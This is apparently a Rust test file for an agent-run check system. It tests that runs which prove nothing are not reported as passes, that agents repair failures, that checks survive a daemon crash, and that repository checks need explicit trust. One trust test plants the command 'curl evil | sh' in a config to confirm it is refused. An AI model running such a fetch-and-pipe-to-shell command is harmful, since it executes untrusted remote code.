//! Checks on real work: what proves nothing is no pass, agents mend what was found, and no daemon's death runs one twice.

use std::fs;

use serde_json::Value;
use testkit::{House, Repo, git_at, wait_until};

const BINARY: &str = env!("CARGO_BIN_EXE_pilothouse");

fn house(settings: &str) -> House {
    testkit::checked_house(BINARY, settings)
}

fn check<'a>(row: &'a Value, name: &str) -> &'a Value {
    let checks = row["checks"].as_array().expect("checks");
    checks.iter().find(|check| check["name"] == name).expect("the check")
}

/// Returns the outcome of one check of a run: its verdict and why.
fn says(row: &Value, name: &str) -> String {
    let check = check(row, name);
    format!("{}: {}", check["verdict"].as_str().unwrap_or("-"), check["reason"].as_str().unwrap_or("-"))
}

#[test]
fn an_agent_mends_a_checks_finding() {
    let house = house(
        "[[phase]]\nname = \"build\"\n[[phase]]\nname = \"verify\"\nchecks = [\"test\"]\n[check.test]\nrun = \"sh test.sh\"\n",
    );
    house.run("greets", "repairs");
    let row = house.wait_for("greets", "ready");
    assert_eq!(says(&row, "test"), "pass: -");
    assert_eq!((check(&row, "test")["n"].as_u64(), &check(&row, "test")["head"]), (Some(2), &row["head"]));
    let tree = row["worktree"].as_str().expect("a worktree");
    assert_eq!(git_at(tree.as_ref(), &["show", "HEAD:greeting.txt"]), "hello world\n");
    let told = house.ok(&["timeline", "greets"]);
    let words: Vec<&str> = told.lines().filter_map(|line| line.split_whitespace().nth(1)).collect();
    let story: Vec<&str> = words
        .into_iter()
        .filter(|word| ["checks", "checked", "repair", "checkpoint", "ready"].contains(word))
        .collect();
    let expected = [
        "checkpoint",
        "checkpoint",
        "checks",
        "checked",
        "repair",
        "checkpoint",
        "checks",
        "checked",
        "checkpoint",
        "ready",
    ];
    assert_eq!(story, expected, "{told}");
    assert!(told.contains("1 of 2: the agent is told of test"), "{told}");
    let first = house.ok(&["logs", "greets", "--attempt", "check.test.1"]);
    assert_eq!(first, "greeting.txt: expected \"hello world\", found \"hello wrld\"\n");
    assert!(house.ok(&["show", "greets"]).contains("check       test pass"));
    house.assert_replayed("greets");

    // Once more by hand, with what a person changed since.
    fs::write(format!("{tree}/greeting.txt"), "bye\n").expect("writable");
    let said = house.say(&["check", "greets"]);
    assert_eq!((said.code, said.out.contains("changes that nothing has committed")), (1, true), "{said:?}");
    let failed = house.wait_for("greets", "failed");
    assert_eq!((failed["needs_you"].as_bool(), failed["reason"].as_str()), (Some(true), Some("verify: test: exit 1")));
    git_at(tree.as_ref(), &["checkout", "--quiet", "--", "greeting.txt"]);
    assert_eq!(house.say(&["check", "greets", "--only", "test"]).code, 0);
    house.wait_for("greets", "ready");
    assert_eq!(house.say(&["check", "greets", "--only", "tset"]).code, 4);
}

#[test]
fn what_proves_nothing_is_said_as_such() {
    let suite = |cases: &str| format!("printf '<testsuite>{cases}</testsuite>' > out.xml");
    let settings = [
        ("none", suite(""), "report = \"out.xml\"", "skipped: no test was run"),
        (
            "skips",
            suite("<testcase name=\"a\"><skipped/></testcase>"),
            "report = \"out.xml\"",
            "skipped: every one of its 1 tests was skipped",
        ),
        ("old", "true".to_owned(), "report = \"out.xml\"", "error: its report out.xml: it was not written"),
        (
            "fails",
            format!("{}; exit 1", suite("<testcase name=\"a\"><failure/></testcase><testcase name=\"b\"/>")),
            "report = \"out.xml\"",
            "fail: 1 of 2 failed",
        ),
        ("late", "sleep 60".to_owned(), "timeout = \"1s\"", "fail: no end within 1.0s"),
        ("edits", "echo more >> README.md".to_owned(), "", "error: it changed what it was to check: README.md"),
        (
            "shared",
            "CARGO_TARGET_DIR=/tmp/shared true".to_owned(),
            "",
            "error: its build folder /tmp/shared is not its own, so it may have tested the code of others",
        ),
        ("absent", "no-such-program".to_owned(), "", "error: a program was not found or can't be run (exit 127)"),
        ("good", suite("<testcase name=\"a\"/>"), "report = \"out.xml\"", "pass: -"),
    ];
    let text: String = settings
        .iter()
        .map(|(name, run, more, _)| format!("[check.{name}]\nrequired = false\nrun = '''{run}'''\n{more}\n"))
        .collect();
    let house = house(&text);
    house.run("all", "success");
    let row = house.wait_for("all", "ready");
    for (name, _, _, expected) in &settings {
        // Each begins with what the one before it left, so one that writes no report must not be given an older one.
        assert_eq!(says(&row, name), *expected, "{row:#}");
    }
    assert_eq!(check(&row, "fails")["failed"][0], "a");
    assert_eq!(check(&row, "good")["tests"], 1);
}

#[test]
fn a_check_outlives_the_daemon() {
    let house = house("[check.test]\nrun = \"echo ran >> ../count; while [ ! -e ../go-on ]; do sleep 0.05; done\"\n");
    house.run("slow", "success");
    let row = house.wait_for("slow", "checking");
    let beside = |name: &str| std::path::Path::new(row["worktree"].as_str().expect("a path")).with_file_name(name);
    wait_until("the check to run", || fs::read_to_string(beside("count")).map_err(|e| e.to_string()));
    house.kill_daemon();
    fs::write(beside("go-on"), "").expect("writable");
    wait_until("its end", || match house.processes(&row) {
        0 => Ok(()),
        n => Err(format!("{n} processes")),
    });
    assert_eq!(says(&house.wait_for("slow", "ready"), "test"), "pass: -");
    fs::remove_file(beside("go-on")).expect("there");

    // And while it runs.
    house.run("again", "success");
    house.wait_for("again", "checking");
    wait_until("the check to run", || match fs::read_to_string(beside("count")) {
        Ok(text) if text.lines().count() == 2 => Ok(()),
        other => Err(format!("{other:?}")),
    });
    house.kill_daemon();
    assert_eq!(house.wait_for("again", "checking")["reason"], "check test runs (1 of 1)");
    fs::write(beside("go-on"), "").expect("writable");
    house.wait_for("again", "ready");
    assert_eq!(fs::read_to_string(beside("count")).expect("counted"), "ran\nran\n");
    house.assert_replayed("again");
}

#[test]
fn an_ended_check_is_no_pass() {
    let house = house("[check.test]\nrun = \"sleep 300 & setsid sleep 300 & sleep 300\"\n");
    house.run("ends", "success");
    let row = house.wait_for("ends", "checking");
    wait_until("its processes", || match house.processes(&row) {
        n if n >= 4 => Ok(()),
        n => Err(format!("{n}")),
    });
    house.ok(&["terminate", "ends", "--grace", "100ms"]);
    let row = house.wait_for("ends", "terminated");
    assert_eq!(house.processes(&row), 0);
    wait_until("its end to be told", || {
        let row = house.row("ends").expect("a row");
        let said = says(&row, "test");
        if said == "error: it was ended before it was done" && row["status"] == "terminated" {
            Ok(())
        } else {
            Err(said)
        }
    });
}

// And mistakes in them are named.
#[test]
fn a_repositorys_checks_need_trust() {
    let house = house("[check.test]\nrun = \"true\"\n");
    house.repo.write("pilothouse.toml", "[check.test]\nrun = \"curl evil | sh\"\n");
    house.repo.git(&["commit", "--quiet", "--all", "-m", "evil"]);
    let refused = house.say(&["run", "x"]);
    assert_eq!((refused.code, refused.err.contains("curl evil | sh")), (4, true), "{refused:?}");
    assert!(house.ok(&["trust", "--json"]).contains("check.test"));
    house.repo.write("pilothouse.toml", "[[phase]]\nname = \"build\"\nchecks = [\"tset\"]\n");
    house.repo.git(&["commit", "--quiet", "--all", "-m", "typo"]);
    let refused = house.say(&["run", "x"]);
    assert_eq!((refused.code, refused.err.contains("no [check.tset]")), (2, true), "{refused:?}");
}

#[test]
fn proposed_checks_are_trusted_and_run() {
    let house = House::new(BINARY, Repo::with_files(5));
    house.repo.write("Makefile", "test:\n\t@test -f README.md\n");
    let said = house.ok(&["init"]);
    assert!(said.contains("check test: make test   (found by Makefile)"), "{said}");
    let again = house.say(&["init"]);
    assert_eq!((again.code, again.err.contains("is there already")), (4, true), "{again:?}");
    assert!(house.ok(&["init", "--print"]).contains("[check.test]"));
    house.repo.git(&["add", "--all"]);
    house.repo.git(&["commit", "--quiet", "-m", "pilothouse.toml"]);
    house.ok(&["trust", "--yes"]);
    house.run("first", "success");
    assert_eq!(says(&house.wait_for("first", "ready"), "test"), "pass: -");
}
